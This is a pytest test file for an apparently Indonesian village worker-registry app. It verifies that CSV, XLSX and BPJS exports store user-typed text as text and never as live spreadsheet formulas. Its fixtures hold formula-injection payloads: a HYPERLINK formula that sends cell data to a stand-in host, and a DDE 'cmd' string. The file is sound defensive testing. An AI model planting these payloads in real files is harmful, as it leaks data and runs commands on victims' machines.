"""Text typed in a village never becomes a live formula in the CSV and XLSX files it reaches."""

from __future__ import annotations

import csv

from cli_helpers import run, run_json
from openpyxl import load_workbook

from desktop_app.services.safe_cells import safe_cell

VILLAGE_NAME = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
DUSUN = "=1+2"
OTHER_JOB = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_village(tmp_path, capsys, profile=None):
    data = tmp_path / "desa"
    extra = ("--district-profile", str(profile)) if profile else ()
    code = run(
        capsys, data, "init", "village", "--code", "65.03.10.2004", "--name", VILLAGE_NAME, *extra
    )[0]
    assert code == 0
    code, _, err = run(
        capsys,
        data,
        "worker",
        "add",
        *("--nik", "6503104508900001", "--name", "Siti Aminah", "--birth-date", "05-08-1990"),
        *("--sex", "P", "--occupation", "lainnya", "--occupation-other", OTHER_JOB),
        *("--dusun", DUSUN, "--monthly-income", "1.500.000"),
    )
    assert code == 0, err
    return data


def test_coverage_report_xlsx_holds_typed_text_as_text_never_as_a_formula(tmp_path, capsys):
    data = hostile_village(tmp_path, capsys)
    out = tmp_path / "laporan.xlsx"
    run_json(capsys, data, "report", "coverage", "--format", "xlsx", "--out", str(out))

    book = load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert {VILLAGE_NAME, DUSUN} <= texts and any(OTHER_JOB in str(t) for t in texts)


def test_coverage_report_csv_prefixes_cells_a_spreadsheet_would_run(tmp_path, capsys):
    data = hostile_village(tmp_path, capsys)
    out = tmp_path / "laporan.csv"
    run_json(capsys, data, "report", "coverage", "--format", "csv", "--out", str(out))

    with open(out, encoding="utf-8-sig") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + VILLAGE_NAME in cells and "'" + DUSUN in cells


def test_bpjs_list_for_the_district_carries_no_live_formula(tmp_path, capsys):
    district = tmp_path / "kabupaten"
    assert run(capsys, district, "init", "district", "--code", "65.03")[0] == 0
    data = hostile_village(tmp_path, capsys, district / "profil-kabupaten-65.03.json")
    (batch,) = run_json(capsys, data, "export", "--out", str(tmp_path / "usb"))
    run_json(capsys, district, "import", "--trust-new", batch["path"])
    listing = tmp_path / "untuk-bpjs.csv"
    run_json(capsys, district, "bpjs", "export", "--out", str(listing))

    with open(listing, encoding="utf-8-sig") as f:
        (row,) = list(csv.DictReader(f))
    assert row["desa"] == "'" + VILLAGE_NAME and row["nik"] == "6503104508900001"


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert safe_cell(-5) == -5 and safe_cell("Tanjung Aru") == "Tanjung Aru"
    assert [safe_cell(t) for t in ("+62", "-1", "\tx", "\rx")] == ["'+62", "'-1", "'\tx", "'\rx"]
